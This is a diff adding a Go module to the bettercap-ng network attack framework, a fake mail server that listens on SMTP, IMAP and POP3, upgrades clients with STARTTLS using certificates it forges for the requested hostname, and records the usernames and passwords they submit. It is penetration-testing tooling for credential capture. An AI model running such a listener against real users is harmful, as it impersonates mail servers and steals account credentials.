@@ -0,0 +1,360 @@
+package modules
+
+import (
+	"bufio"
+	"crypto/tls"
+	"crypto/x509"
+	"encoding/base64"
+	"fmt"
+	"io/ioutil"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/evilsocket/bettercap-ng/core"
+	"github.com/evilsocket/bettercap-ng/log"
+	"github.com/evilsocket/bettercap-ng/session"
+	btls "github.com/evilsocket/bettercap-ng/tls"
+)
+
+const (
+	mailIdleTimeout = 60 * time.Second
+	// clients are disconnected after this many failed logins
+	mailMaxLogins = 3
+)
+
+type mailHandler func(c *mailConn)
+
+type MailHoneypot struct {
+	session.SessionModule
+	hostname  string
+	ca        *tls.Certificate
+	listeners []net.Listener
+	wg        sync.WaitGroup
+}
+
+// A client connection, upgraded in place by STARTTLS.
+type mailConn struct {
+	net.Conn
+	reader   *bufio.Reader
+	honeypot *MailHoneypot
+	proto    string
+	port     int
+	isTLS    bool
+	sni      string
+	logins   int
+}
+
+func NewMailHoneypot(s *session.Session) *MailHoneypot {
+	mail := &MailHoneypot{
+		SessionModule: session.NewSessionModule("mail.honeypot", s),
+		listeners:     make([]net.Listener, 0),
+	}
+
+	mail.AddParam(session.NewStringParameter("mail.honeypot.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"Address to bind the mail listeners to."))
+
+	mail.AddParam(session.NewIntParameter("mail.honeypot.smtp.port",
+		"25",
+		"Port of the SMTP listener, 0 to disable it."))
+
+	mail.AddParam(session.NewIntParameter("mail.honeypot.imap.port",
+		"143",
+		"Port of the IMAP listener, 0 to disable it."))
+
+	mail.AddParam(session.NewIntParameter("mail.honeypot.pop3.port",
+		"110",
+		"Port of the POP3 listener, 0 to disable it."))
+
+	mail.AddParam(session.NewStringParameter("mail.honeypot.hostname",
+		"mail",
+		"",
+		"Hostname used in the banners and for the STARTTLS certificate of clients not sending SNI."))
+
+	mail.AddParam(session.NewStringParameter("mail.honeypot.certificate",
+		"~/.bettercap-ca.cert.pem",
+		"",
+		"Certification authority TLS certificate file used to sign the STARTTLS certificates, the same of https.proxy by default."))
+
+	mail.AddParam(session.NewStringParameter("mail.honeypot.key",
+		"~/.bettercap-ca.key.pem",
+		"",
+		"Certification authority TLS key file used to sign the STARTTLS certificates, the same of https.proxy by default."))
+
+	mail.AddHandler(session.NewModuleHandler("mail.honeypot on", "",
+		"Start the mail listeners.",
+		func(args []string) error {
+			return mail.Start()
+		}))
+
+	mail.AddHandler(session.NewModuleHandler("mail.honeypot off", "",
+		"Stop the mail listeners.",
+		func(args []string) error {
+			return mail.Stop()
+		}))
+
+	return mail
+}
+
+func (m *MailHoneypot) Name() string {
+	return "mail.honeypot"
+}
+
+func (m *MailHoneypot) Description() string {
+	return "SMTP, IMAP and POP3 listeners which accept logins, also over STARTTLS, capture the credentials and then reject them."
+}
+
+func (m *MailHoneypot) Author() string {
+	return "Simone Margaritelli <evilsocket@protonmail.com>"
+}
+
+// Loads the certification authority, generating it if it doesn't exist yet.
+func loadCA(certFile string, keyFile string) (*tls.Certificate, error) {
+	var err error
+
+	if certFile, err = core.ExpandPath(certFile); err != nil {
+		return nil, err
+	} else if keyFile, err = core.ExpandPath(keyFile); err != nil {
+		return nil, err
+	}
+
+	if core.Exists(certFile) == false || core.Exists(keyFile) == false {
+		log.Info("Generating certification authority TLS key to %s", keyFile)
+		log.Info("Generating certification authority TLS certificate to %s", certFile)
+		if err := btls.Generate(certFile, keyFile); err != nil {
+			return nil, err
+		}
+	}
+
+	rawCert, err := ioutil.ReadFile(certFile)
+	if err != nil {
+		return nil, err
+	}
+
+	rawKey, err := ioutil.ReadFile(keyFile)
+	if err != nil {
+		return nil, err
+	}
+
+	ca, err := tls.X509KeyPair(rawCert, rawKey)
+	if err != nil {
+		return nil, err
+	}
+
+	if ca.Leaf, err = x509.ParseCertificate(ca.Certificate[0]); err != nil {
+		return nil, err
+	}
+
+	return &ca, nil
+}
+
+func (m *MailHoneypot) Configure() error {
+	var err error
+	var address string
+	var certFile string
+	var keyFile string
+	var smtpPort, imapPort, pop3Port int
+
+	if err, address = m.StringParam("mail.honeypot.address"); err != nil {
+		return err
+	} else if err, smtpPort = m.IntParam("mail.honeypot.smtp.port"); err != nil {
+		return err
+	} else if err, imapPort = m.IntParam("mail.honeypot.imap.port"); err != nil {
+		return err
+	} else if err, pop3Port = m.IntParam("mail.honeypot.pop3.port"); err != nil {
+		return err
+	} else if err, m.hostname = m.StringParam("mail.honeypot.hostname"); err != nil {
+		return err
+	} else if err, certFile = m.StringParam("mail.honeypot.certificate"); err != nil {
+		return err
+	} else if err, keyFile = m.StringParam("mail.honeypot.key"); err != nil {
+		return err
+	}
+
+	if m.ca, err = loadCA(certFile, keyFile); err != nil {
+		return err
+	}
+
+	m.listeners = make([]net.Listener, 0)
+	for _, l := range []struct {
+		proto   string
+		port    int
+		handler mailHandler
+	}{
+		{"smtp", smtpPort, smtpHandler},
+		{"imap", imapPort, imapHandler},
+		{"pop3", pop3Port, pop3Handler},
+	} {
+		if l.port == 0 {
+			continue
+		}
+
+		listener, err := net.Listen("tcp", fmt.Sprintf("%s:%d", address, l.port))
+		if err != nil {
+			for _, prev := range m.listeners {
+				prev.Close()
+			}
+			return err
+		}
+
+		log.Info("%s honeypot listening on %s", strings.ToUpper(l.proto), listener.Addr())
+		m.listeners = append(m.listeners, listener)
+
+		m.wg.Add(1)
+		go m.accept(listener, l.proto, l.port, l.handler)
+	}
+
+	if len(m.listeners) == 0 {
+		return fmt.Errorf("All the mail listeners are disabled.")
+	}
+
+	return nil
+}
+
+func (m *MailHoneypot) accept(listener net.Listener, proto string, port int, handler mailHandler) {
+	defer m.Session.Recover()
+	defer m.wg.Done()
+
+	for {
+		conn, err := listener.Accept()
+		if err != nil {
+			// closed by Stop
+			return
+		}
+
+		c := &mailConn{
+			Conn:     conn,
+			reader:   bufio.NewReader(conn),
+			honeypot: m,
+			proto:    proto,
+			port:     port,
+		}
+
+		go func() {
+			defer m.Session.Recover()
+			defer c.Close()
+			log.Debug("(%s) New connection from %s", core.Green(proto), conn.RemoteAddr())
+			handler(c)
+		}()
+	}
+}
+
+// Signs a certificate for the hostname the client is asking for,
+// or the configured one if it doesn't send SNI.
+func (m *MailHoneypot) tlsConfig(c *mailConn) *tls.Config {
+	return &tls.Config{
+		GetCertificate: func(hello *tls.ClientHelloInfo) (*tls.Certificate, error) {
+			c.sni = hello.ServerName
+			hostname := c.sni
+			if hostname == "" {
+				hostname = m.hostname
+			}
+			return getOrSignCert(m.ca, hostname, c.port)
+		},
+	}
+}
+
+func (c *mailConn) send(format string, args ...interface{}) error {
+	c.SetWriteDeadline(time.Now().Add(mailIdleTimeout))
+	_, err := fmt.Fprintf(c.Conn, format+"\r\n", args...)
+	return err
+}
+
+func (c *mailConn) readLine() (string, error) {
+	c.SetReadDeadline(time.Now().Add(mailIdleTimeout))
+	line, isPrefix, err := c.reader.ReadLine()
+	if err != nil {
+		return "", err
+	} else if isPrefix == true {
+		return "", fmt.Errorf("Line too long.")
+	}
+	return string(line), nil
+}
+
+func (c *mailConn) readBase64() (string, error) {
+	line, err := c.readLine()
+	if err != nil {
+		return "", err
+	}
+
+	raw, err := base64.StdEncoding.DecodeString(strings.TrimSpace(line))
+	if err != nil {
+		return "", err
+	}
+	return string(raw), nil
+}
+
+func (c *mailConn) startTLS() error {
+	conn := tls.Server(c.Conn, c.honeypot.tlsConfig(c))
+
+	c.SetDeadline(time.Now().Add(mailIdleTimeout))
+	if err := conn.Handshake(); err != nil {
+		return err
+	}
+
+	c.Conn = conn
+	c.reader = bufio.NewReader(conn)
+	c.isTLS = true
+	return nil
+}
+
+// Splits a SASL PLAIN response, authzid \0 authcid \0 password.
+func saslPlain(response string) (username string, password string, ok bool) {
+	parts := strings.Split(response, "\x00")
+	if len(parts) != 3 {
+		return "", "", false
+	}
+	return parts[1], parts[2], true
+}
+
+// Records the credentials and returns false once the
+// client should be disconnected.
+func (c *mailConn) login(username string, password string) bool {
+	destination := c.sni
+	if destination == "" {
+		destination = c.LocalAddr().String()
+	}
+
+	source, _, _ := net.SplitHostPort(c.RemoteAddr().String())
+
+	c.honeypot.Session.Creds.Add(&session.Credential{
+		Type:        session.CredCleartext,
+		Protocol:    c.proto,
+		Source:      source,
+		Destination: destination,
+		Username:    username,
+		Password:    password,
+	})
+
+	c.logins++
+	return c.logins < mailMaxLogins
+}
+
+func (m *MailHoneypot) Start() error {
+	if m.Running() == true {
+		return session.ErrAlreadyStarted
+	} else if err := m.Configure(); err != nil {
+		return err
+	}
+
+	m.SetRunning(true)
+
+	return nil
+}
+
+func (m *MailHoneypot) Stop() error {
+	if m.Running() == false {
+		return session.ErrAlreadyStopped
+	}
+	m.SetRunning(false)
+
+	for _, listener := range m.listeners {
+		listener.Close()
+	}
+	m.wg.Wait()
+
+	return nil
+}